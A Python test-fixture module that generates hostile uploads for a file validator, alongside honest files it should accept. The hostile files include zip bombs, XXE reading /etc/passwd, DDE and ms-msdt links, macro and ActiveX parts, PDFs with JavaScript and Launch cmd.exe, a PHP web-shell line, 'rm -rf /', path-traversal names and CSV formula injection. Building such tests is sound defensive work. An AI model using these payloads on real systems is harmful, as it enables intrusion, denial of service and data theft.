"""Files that must be refused, and honest ones that must be taken, made in code.

Each hostile case says a word that its refusal must hold, so that a file refused for the wrong
reason is found.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    data: bytes
    reason: str = ""

    def __str__(self) -> str:
        return f"{self.family}: {ascii(self.name)[:50]}"


def docx(*, text: str = "Seats", properties: str = "") -> bytes:
    import docx as library

    document = library.Document()
    document.add_paragraph(text)
    document.core_properties.title = properties
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(rows: list[list[object]] | None = None, **options: object) -> bytes:
    import xlsxwriter

    out = BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True, **options}) as book:
        sheet = book.add_worksheet("Seats")
        for number, row in enumerate(rows or [["Seat", "Holder"], ["Chair", "Vacant"]]):
            sheet.write_row(number, 0, row)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], *, first: str = "") -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(ZipInfo(name), body, ZIP_STORED if name == first else ZIP_DEFLATED)
    return out.getvalue()


def changed(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    parts = parts_of(data)
    if old not in parts[part]:
        raise ValueError(f"{part} does not hold {old!r}")
    return packed({**parts, part: parts[part].replace(old, new, 1)})


def with_part(data: bytes, name: str, body: bytes) -> bytes:
    return packed({**parts_of(data), name: body})


def opendocument(kind: str = "text", extra: dict[str, bytes] | None = None) -> bytes:
    media = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
        "</manifest:manifest>"
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
        '"urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body/>'
        "</office:document-content>"
    )
    parts = {
        "mimetype": media.encode(),
        "content.xml": content.encode(),
        "Configurations2/accelerator/current.xml": b"",
        "META-INF/manifest.xml": manifest.encode(),
    }
    return packed({**parts, **(extra or {})}, first="mimetype")


def pdf(*objects: bytes, catalog: bytes = b"", trailer: bytes = b"") -> bytes:
    """A small valid PDF; `objects` are numbered from 4, `catalog` goes into the catalogue."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(bodies) + 1) + trailer
    return out + b">>\nstartxref\n%d\n%%%%EOF\n" % start


def stream(head: bytes, body: bytes) -> bytes:
    packed_body = zlib.compress(body)
    return (
        b"<< "
        + head
        + b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed_body)
        + packed_body
        + b"\nendstream"
    )


def png(width: int = 40, height: int = 30) -> bytes:
    from PIL import Image

    out = BytesIO()
    Image.new("RGB", (width, height), "#12436d").save(out, "PNG")
    return out.getvalue()


def jpg(width: int = 40, height: int = 30) -> bytes:
    from PIL import Image

    out = BytesIO()
    Image.new("RGB", (width, height), "#12436d").save(out, "JPEG")
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    """A picture whose pixels would fill the memory though the file is tiny."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bomb(size: int) -> bytes:
    return with_part(docx(), "word/media/picture.emf", b"\0" * size)


def many_parts(count: int) -> bytes:
    return packed({**parts_of(docx()), **{f"word/x{n}.bin": b"" for n in range(count)}})


def overlapping() -> bytes:
    """Several entries of the directory that share one packed body."""
    data = with_part(docx(), "word/media/a.bin", b"\0" * 900_000)
    at = data.rfind(b"PK\x05\x06")
    _, size, start = struct.unpack("<10xHII", data[at : at + 20])
    directory = data[start : start + size]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = [last.replace(b"a.bin", b"%c.bin" % letter) for letter in b"bcdefgh"]
    grown = directory + b"".join(copies)
    count = grown.count(b"PK\x01\x02")
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(grown), start, 0)
    return data[:start] + grown + tail


def lying(size: int) -> bytes:
    """An entry that says it is small and unpacks large."""
    data = with_part(docx(), "word/media/a.bin", b"\0" * size)
    return data.replace(struct.pack("<I", size), struct.pack("<I", 100))


def zip64_end(data: bytes) -> bytes:
    """The same archive with the 64-bit end record that some exporters always write."""
    at = data.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack("<10xHII", data[at : at + 20])
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    return data[:at] + record + locator + data[at:]


def bombs() -> Iterator[Case]:
    yield Case("bomb", "ratio.docx", bomb(30 << 20), "beyond all measure")
    yield Case("bomb", "parts.docx", many_parts(5000), "parts")
    yield Case("bomb", "overlap.docx", overlapping(), "overlap")
    yield Case("bomb", "lying.docx", lying(12 << 20), "beyond all measure")
    yield Case("bomb", "small-lie.docx", lying(700_000), "size it claims")
    inner = packed({"bomb.bin": b"\0" * (20 << 20)})
    yield Case("bomb", "nested.docx", with_part(docx(), "word/media/a.zip", inner), "archive")
    book = with_part(xlsx(), "xl/media/picture.emf", b"\0" * (30 << 20))
    chart = with_part(docx(), "word/embeddings/Sheet1.xlsx", book)
    yield Case("bomb", "embedded.docx", chart, "beyond all measure")
    deep = with_part(xlsx(), "xl/embeddings/Sheet2.xlsx", xlsx())
    deep = with_part(docx(), "word/embeddings/Sheet1.xlsx", deep)
    yield Case("bomb", "deep.docx", deep, "archive")
    objects = stream(b"/Type /ObjStm /N 1 /First 4", b" " * (80 << 20))
    yield Case("bomb", "objects.pdf", pdf(objects), "beyond all measure")
    far = changed(xlsx(), "xl/worksheets/sheet1.xml", b'r="B2"', b'r="XFD1048576"')
    yield Case("bomb", "wide.png", png_claiming(60_000, 60_000), "pixels")
    yield Case("bomb", "tall.png", png_claiming(9_000, 9_000), "pixels")
    yield Case("bomb far cell", "far.xlsx", far, "more than can be read")


def entities() -> Iterator[Case]:
    for name, part, data in (
        ("types.docx", "[Content_Types].xml", docx()),
        ("body.docx", "word/document.xml", docx()),
        ("links.docx", "word/_rels/document.xml.rels", docx()),
        ("book.xlsx", "xl/workbook.xml", xlsx()),
        ("text.odt", "content.xml", opendocument()),
    ):
        body = parts_of(data)[part]
        head, _, rest = body.partition(b"?>")
        outside = b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        laughs = b'?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
        remote = b'?><!DOCTYPE x SYSTEM "http://example.org/x.dtd">'
        for kind, inserted in (("xxe", outside), ("laughs", laughs), ("dtd", remote)):
            parts = {**parts_of(data), part: head + inserted + rest}
            made = packed(parts, first="mimetype")
            yield Case("entities", f"{kind}-{name}", made, "entities")
    wide = "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x [<!ENTITY e 'x'>]><x/>"
    parts = {**parts_of(docx()), "word/document.xml": wide.encode("utf-16")}
    yield Case("entities", "utf16.docx", packed(parts), "entities")


def macros() -> Iterator[Case]:
    yield Case("macro", "a.docx", with_part(docx(), "word/vbaProject.bin", OLE), "macro")
    yield Case("macro", "b.xlsx", with_part(xlsx(), "xl/vbaProject.bin", OLE), "macro")
    for data, name, plain, kind in (
        (docx(), "renamed.docx", b"wordprocessingml.document.main", b"ms-word.document."),
        (xlsx(), "renamed.xlsx", b"spreadsheetml.sheet.main", b"ms-excel.sheet."),
    ):
        old = b"application/vnd.openxmlformats-officedocument." + plain + b"+xml"
        new = b"application/vnd." + kind + b"macroEnabled.main+xml"
        yield Case("macro", name, changed(data, "[Content_Types].xml", old, new), "macros")
    sheet = with_part(xlsx(), "xl/macrosheets/sheet1.xml", b"<x/>")
    yield Case("macro", "sheet4.xlsx", sheet, "macro")
    yield Case("macro", "control.docx", with_part(docx(), "word/activeX/a.bin", b"x"), "macro")
    basic = opendocument(extra={"Basic/Standard/Module1.xml": b"<x/>"})
    yield Case("macro", "basic.odt", basic, "macros")
    packaged = with_part(docx(), "word/embeddings/oleObject1.bin", OLE + b"\0" * 600)
    yield Case("macro", "object.docx", packaged, "embedded object")
    program = with_part(docx(), "word/media/image1.png", b"MZ\x90\0" + b"\0" * 60)
    yield Case("macro", "program.docx", program, "program")
    yield Case("macro", "a.docm", docx(), "not a kind of file")
    yield Case("macro", "a.xlsm", xlsx(), "not a kind of file")


def fetchers() -> Iterator[Case]:
    rel = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    for number, (kind, target) in enumerate(
        (
            (b"relationships/attachedTemplate", b"https://example.org/t.dotm"),
            (b"relationships/attachedTemplate", b"file://files.example.org/share/t.dotm"),
            (b"relationships/oleObject", b"mhtml:https://example.org/x!x"),
            (b"relationships/frame", b"http://example.org/"),
        )
    ):
        link = rel + kind + b'" Target="' + target + b'" TargetMode="External"/></Relationships>'
        part = "word/_rels/document.xml.rels"
        made = changed(docx(), part, b"</Relationships>", link)
        yield Case("fetcher", f"{number}.docx", made, "fetches something")
    run = rel + b'relationships/hyperlink" Target="ms-msdt:/id" TargetMode="External"/>'
    made = changed(
        docx(), "word/_rels/document.xml.rels", b"</Relationships>", run + b"</Relationships>"
    )
    yield Case("fetcher", "link.docx", made, "runs a program")
    for name, code in (
        ("dde.docx", b"<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"),
        (
            "split.docx",
            b"<w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText>",
        ),
        ("code.docx", b"<w:instrText> &#68;DE cmd</w:instrText>"),
    ):
        field = b"<w:p><w:r>" + code + b"</w:r></w:p></w:body>"
        made = changed(docx(), "word/document.xml", b"</w:body>", field)
        yield Case("fetcher", name, made, "another program")
    link = with_part(
        xlsx(), "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>"
    )
    yield Case("fetcher", "dde.xlsx", link, "another program")


def polyglots() -> Iterator[Case]:
    archive = packed({"a.txt": b"hidden"})
    yield Case("polyglot", "tail.png", png() + archive, "hidden")
    yield Case("polyglot", "tail.jpg", jpg() + archive, "something else")
    yield Case("polyglot", "tail.pdf", pdf() + archive, "hidden")
    yield Case("polyglot", "tail.docx", docx() + b"%PDF-1.7 and so on", "hidden")
    yield Case("polyglot", "head.docx", b"MZ\x90\0" + docx(), "program")
    yield Case("polyglot", "script.jpg", jpg() + b"<script>alert(1)</script>", "something else")
    inside = jpg()[:2] + b"\xff\xfe\x00\x1b<script>alert(1)</script>" + jpg()[2:]
    yield Case("polyglot", "comment.jpg", inside, "something else")
    text = chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>")
    cut = png().rfind(b"IEND") - 4
    yield Case("polyglot", "text.png", png()[:cut] + text + png()[cut:], "something else")
    page = pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<html><script>x</script>", 1)
    yield Case("polyglot", "page.pdf", page, "web page")
    yield Case("polyglot", "twice.pdf", pdf() + b"MZ" + b"\0" * 6000, "hidden")


def masks() -> Iterator[Case]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'
    page = b"<!DOCTYPE html><html><body>Seats</body></html>"
    program = b"MZ\x90\0" + b"\0" * 200
    yield Case("mask", "drawing.svg", svg, "not a kind of file")
    yield Case("mask", "page.html", page, "not a kind of file")
    yield Case("mask", "program.exe", program, "not a kind of file")
    for ending in ("pdf", "docx", "xlsx", "png", "jpg", "odt"):
        yield Case("mask", f"program.{ending}", program, "Windows program")
        yield Case("mask", f"page.{ending}", page, "web page")
    for ending in ("txt", "csv"):
        yield Case("mask", f"program.{ending}", program, "Windows program")
        yield Case("mask", f"page.{ending}", page, "web page")
        yield Case("mask", f"drawing.{ending}", b"\xef\xbb\xbf  " + svg, "markup")
        yield Case("mask", f"binary.{ending}", b"seat\x00holder\x01\x02", "control character")
        yield Case("mask", f"shell.{ending}", b"#!/bin/sh\nrm -rf /\n", "markup")
    yield Case("mask", "word.xlsx", docx(), "another kind")
    yield Case("mask", "book.docx", xlsx(), "another kind")
    yield Case("mask", "book.odt", opendocument("spreadsheet"), "another kind")
    yield Case("mask", "picture.png", jpg(), "JPEG")
    yield Case("mask", "plain.docx", packed({"a.txt": b"a"}), "missing")
    yield Case("mask", "empty.pdf", b"", "empty")
    yield Case("mask", "cut.png", png()[:-30], "")
    yield Case("mask", "cut.docx", docx()[:-400], "cut short")
    yield Case("mask", "cut.jpg", jpg(900, 900)[:-900], "damaged")


def locked() -> Iterator[Case]:
    encrypted = OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500
    yield Case("locked", "secret.docx", encrypted, "password")
    yield Case("locked", "secret.xlsx", encrypted, "password")
    yield Case("locked", "old.docx", OLE + b"\0" * 1000, "old office format")
    key = b"<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>"
    yield Case("locked", "secret.pdf", pdf(key, trailer=b"/Encrypt 4 0 R "), "password")
    manifest = parts_of(opendocument())["META-INF/manifest.xml"].replace(
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
        b"</manifest:file-entry></manifest:manifest>",
    )
    made = opendocument(extra={"META-INF/manifest.xml": manifest})
    yield Case("locked", "secret.odt", made, "password")
    yield Case("locked", "flag.docx", flagged(docx()), "password")


def flagged(data: bytes) -> bytes:
    """Every entry of the directory marked as encrypted."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 8] |= 1
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def pdfs() -> Iterator[Case]:
    run = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield Case("pdf", "script.pdf", pdf(run, catalog=b"/OpenAction 4 0 R"), "script")
    names = b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"
    yield Case("pdf", "names.pdf", pdf(run, catalog=names), "script")
    coded = b"<< /S /J#61vaScrip#74 /JS (x) >>"
    yield Case("pdf", "coded.pdf", pdf(coded, catalog=b"/OpenAction 4 0 R"), "script")
    launch = b"<< /S /Launch /F (cmd.exe) >>"
    yield Case("pdf", "launch.pdf", pdf(launch, catalog=b"/OpenAction 4 0 R"), "program")
    files = b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"
    yield Case("pdf", "files.pdf", pdf(catalog=files), "carries other files")
    form = b"/AcroForm << /XFA [(a) 4 0 R] >>"
    yield Case("pdf", "form.pdf", pdf(catalog=form), "scripted form")
    send = b"<< /S /SubmitForm /F (http://example.org) >>"
    yield Case("pdf", "send.pdf", pdf(send, catalog=b"/OpenAction 4 0 R"), "sends")
    hidden = stream(b"/Type /ObjStm /N 1 /First 4", b"9 0 " + run)
    yield Case("pdf", "packed.pdf", pdf(hidden, catalog=b"/OpenAction 9 0 R"), "script")
    coded_head = stream(b"/Type /Obj#53tm /N 1 /F#69rst 4", b"9 0 " + launch)
    yield Case("pdf", "packed-coded.pdf", pdf(coded_head), "program")
    odd = b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\n"
    yield Case("pdf", "odd.pdf", pdf(odd + b"stream\n00\nendstream"), "unusual")
    broken = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nxx\nendstream"
    yield Case("pdf", "broken.pdf", pdf(broken), "damaged")


def names() -> Iterator[Case]:
    good = pdf()
    for name in (
        "../../etc/passwd.pdf",
        "..\\seats.pdf",
        "C:seats.pdf",
        "/seats.pdf",
        "a\uff0fb.pdf",
    ):
        yield Case("name", name, good, "another place")
    for name in (
        "seats\u202efdp.pdf",
        "seats\x00.pdf",
        "se\nats.pdf",
        "\u2066seats.pdf",
        "\ufeffa.pdf",
    ):
        yield Case("name", name, good, "characters")
    for name in ("CON.pdf", "nul.pdf", "Com1.pdf", "lpt\u00b9.pdf", "aux.txt.pdf", "PRN .pdf"):
        yield Case("name", name, good, "device")
    yield Case("name", "invoice.exe.pdf", good, "pretends")
    yield Case("name", "a" * 300 + ".pdf", good, "too long")
    yield Case("name", "seats.pdf ", good, "")
    yield Case("name", "seats.pdf.", good, "")
    yield Case("name", "seats", good, "no name with an ending")
    yield Case("name", ".pdf", good, "")
    for inner in ("../../evil.xml", "/evil.xml", "word\\..\\..\\evil.xml", "C:/evil.xml"):
        data = with_part(docx(), inner, b"<x/>")
        yield Case("name", f"inner{len(inner)}.docx", data, "elsewhere")
    yield Case("name", "twice.docx", with_part(docx(), "WORD/document.xml", b"<x/>"), "same name")
    yield Case("name", "rtl.docx", with_part(docx(), "word/a\u202e.xml", b"<x/>"), "unreadable")


def formulas() -> Iterator[Case]:
    for number, cell in enumerate(
        (
            "=1+1",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0",
            '"=HYPERLINK(""http://example.org"")"',
            " =WEBSERVICE(A1)",
        )
    ):
        data = f"Seat,Holder\nChair,{cell}\n".encode()
        yield Case("formula", f"cells{number}.csv", data, "line 2, column B")
    yield Case("formula", "semicolon.csv", b"Seat;Holder\r\nChair;=A1\r\n", "line 2, column B")
    yield Case("formula", "wide.csv", "Seat,Holder\nChair,=A1\n".encode("utf-16"), "column B")


FAMILIES = (bombs, entities, macros, fetchers, polyglots, masks, locked, pdfs, names, formulas)


def hostile() -> list[Case]:
    return [case for family in FAMILIES for case in family()]


def honest() -> list[Case]:
    from concordat.craft import pdf as our_pdf
    from concordat.craft.document import Document, Paragraph

    told = "Chair said: \u201cthe child\u2019s record\u201d \u2013 see page 4 (draft) #3 & more"
    notes = "When,What\n29 March 2019,-5 days\n?,+44 20 7946 0000\nlater,- mother said (twice)\n"
    chart = with_part(docx(), "word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx())
    local = changed(
        docx(),
        "word/_rels/document.xml.rels",
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="file:///C:\\Templates\\board.dotx" '
        b'TargetMode="External"/></Relationships>',
    )
    typeset = our_pdf.write(Document("Minutes", [Paragraph(told * 40)]))
    random = bytes(zlib.crc32(struct.pack("<I", n)) & 0xFF for n in range(300_000))
    return [
        Case("pdf", "minutes.pdf", typeset),
        Case("pdf", "Minutes of 4 March (final) v2.1.pdf", pdf()),
        Case("pdf", "packed.pdf", pdf(stream(b"/Type /ObjStm /N 1 /First 4", b"9 0 << /A 1 >>"))),
        Case("pdf", "noise.pdf", pdf(b"<< /Length 300000 >>\nstream\n" + random + b"\nendstream")),
        Case("word", "Cover report.docx", docx(text=told)),
        Case("word", "chart.docx", chart),
        Case("word", "template.docx", local),
        Case("word", "exported.docx", zip64_end(docx())),
        Case("excel", "seats.xlsx", xlsx()),
        Case("excel", "many.xlsx", xlsx([["Vacant", 1, 2.5]] * 20_000)),
        Case("excel", "exported.xlsx", zip64_end(xlsx())),
        Case("opendocument", "letter.odt", opendocument()),
        Case("opendocument", "seats.ods", opendocument("spreadsheet")),
        Case("csv", "notes.csv", notes.encode()),
        Case("csv", "notes-bom.csv", notes.encode("utf-8-sig")),
        Case("csv", "notes-16.csv", notes.encode("utf-16")),
        Case("csv", "notes-western.csv", "When;What\n\u00a35;caf\u00e9\n".encode("cp1252")),
        Case("text", "notes.txt", told.encode()),
        Case("text", "western.txt", "na\u00efve \u00a310".encode("cp1252")),
        Case("image", "logo.png", png()),
        Case("image", "large.png", png(4000, 3000)),
        Case("image", "photo.JPG", jpg(1200, 900)),
        Case("image", "photo.jpeg", jpg()),
        Case("pdf", "R\u00e9sum\u00e9 \u0985.pdf", pdf()),
    ]
